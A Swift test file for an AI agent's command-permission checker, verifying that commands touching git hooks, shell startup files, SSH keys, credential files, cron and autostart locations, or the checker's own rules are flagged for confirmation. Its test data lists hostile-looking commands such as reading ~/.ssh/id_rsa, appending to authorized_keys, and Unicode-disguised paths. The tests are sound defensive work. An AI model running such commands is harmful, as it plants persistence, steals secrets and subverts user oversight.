import Harness
import Testing

@testable import Workspace

/// What is risky about the files that arguments of commands name.
struct TargetRiskTests {
  let folder: TemporaryFolder

  init() throws {
    folder = try TemporaryFolder(["src/a.txt": "", ".git/hooks/x": ""])
  }

  /// With every command allowed as a category: only what has a guard is asked about.
  private func decide(_ command: String) throws -> PermissionDecision {
    let workspace = folder.workspace
    let rules = PermissionRules(categories: [.read: .allow, .edit: .allow, .execute: .allow])
    let needs = CommandNeeds(command, in: try workspace.folder(nil), of: workspace).needs
    return PermissionDecision(
      tool: "execute_command", category: .execute, needs: needs, rules: rules, grants: Grants(),
      isYolo: false,
      isReadOnly: false)
  }

  @Test(arguments: [
    "cp a .git/hooks/pre-commit", "cp a .git/hooks", "cp -t .git/hooks a", "cp a .vscode/tasks.json",
    "tee .VSCode/settings.json", "mv a .idea/workspace.xml", "cp a sub/.nvim.lua", "tee .mcp.json",
    "cp a .claude/settings.json", "tee .cargo/config.toml", "cp a .devcontainer/devcontainer.json",
    "tee .yarnrc.yml", "cp a lefthook.yml", "cp a src/sitecustomize.py", "tee .g\u{200C}it/config",
    "cp --target-directory=.git/hooks a",
    "mv a .GIT/config", "mv .git/hooks/x y", "ln -s /x .git/hooks/pre-push", "install -m 755 a .git/hooks/b",
    "echo x | tee .git/config", "tee -a .git/config", "touch .bashrc", "rm .git/hooks/x", "rm -r .git",
    "chmod +x .git/hooks/x", "sed -i s/a/b/ .git/config", "dd if=a of=.git/config", "cp x/.bashrc .",
    "git config core.pager ./x", "git -C . config alias.x '!y'", "cp a src/../.git/hooks/b",
    "cp a ~/.profile",
    "cp a \"$HOME/.profile\"", "cp a ${HOME}/.zshrc", "rm .git/hooks/*", "cp a ~/.config/rein/config.toml",
    "rm -f ~/.config/rein/rules.toml", "tee .rein/rules.toml", "cd .git/hooks && cp ../../a b",
    "cd src && cp a ../.git/hooks/b", "curl -o .git/hooks/x http://e", "curl --output=.git/hooks/x http://e",
    "wget -O.bashrc http://e", "sort -o .git/config a", "cp a ../out", "cp a /opt/out", "mkdir /opt/x",
    "tee .husky/pre-commit", "tee ~/.ssh/authorized_keys", "echo x > .git/hooks/x",
    "sh -c 'cp a .git/hooks/b'", "find . -exec cp a .git/hooks/b ';'", "env A=1 tee .git/config",
    "ls | xargs rm .git/hooks/x", "cat ~/.ssh/id_rsa", "cat keys/server.pem", "base64 .env.key",
    "head .npmrc", "cp /etc/hosts here", "cd src && cp a ../b",
    "cp ~/.config/rein/config.toml a", "cp a .gitmodules",
  ])
  func `asked about, though every command is allowed`(_ command: String) throws {
    let decision = try decide(command)
    #expect(decision.policy == .ask, "\(decision.reasons)")
    #expect(!decision.reason.isEmpty)
  }

  @Test(arguments: [
    "cp a b", "cp a src", "mv src/a.txt b", "rm -r src", "tee out | cat", "touch src/x", "chmod +x src/a.txt",
    "sed -i s/a/b/ src/a.txt", "sed s/a/b/ .git/config", "cat .git/config", "git config --get user.name",
    "git config user.name", "git config -l", "git commit -m x", "cp .gitignore x", "cd src && cp a b",
    "dd if=a of=b", "ls .git", "curl http://e -o out",
    "echo .git/hooks/x",
    "cd src", "cat src/key.txt",
  ])
  func `not asked about`(_ command: String) throws {
    let decision = try decide(command)
    #expect(decision.policy == .allow, "\(decision.reasons)")
  }

  @Test func `a granted folder is no risk`() throws {
    let other = try TemporaryFolder()
    #expect(try decide("cp a \(other.root)/b").policy == .ask)
    _ = try folder.workspace.grant(folder: other.root)
    #expect(try decide("cp a \(other.root)/b").policy == .allow)
    #expect(try decide("cp a \(other.root)/.git/hooks/b").policy == .ask)
  }

  @Test func `names are compared as the most generous disk compares them`() {
    for name in [".GIT", ".git.", ".git ", ".g\u{200C}it", ".GiT"] { #expect(FoldedName.of(name) == ".git") }
    #expect(FoldedName.of(".\u{17F}sh") == ".ssh")
    #expect(FoldedName.of(".\u{212A}ube") == ".kube")
    #expect(FoldedName.of("..") == "..")
  }

  @Test func `what a shell, a session or rein reads by itself is told`() throws {
    func risks(_ path: String) throws -> [String] {
      PathRisks.dangers(try folder.workspace.resolve(path), in: folder.workspace)
    }
    let own = "This is rein's own: what stands there decides what is allowed."
    for path in [
      "~/.config/rein/config.toml", "~/.CONFIG/Rein/x", ".rein/rules.toml", "~/.local/share/rein/rein.db",
    ] {
      #expect(try risks(path) == [own], "\(path)")
    }
    for path in [
      "~/.config/fish/conf.d/x.fish", "~/.config/autostart/x", "~/.config/systemd/user/x.service",
      "/etc/profile.d/x",
      "/etc/cron.d/x", "/var/spool/cron/me", "~/Library/LaunchAgents/x.plist",
    ] {
      #expect(try risks(path) == ["The system runs what stands here by itself."], "\(path)")
    }
    #expect(
      try risks("~/.config/git/config") == ["This is git's configuration: settings there can run commands."])
    #expect(try risks("src/rein/a") == [])
  }
}
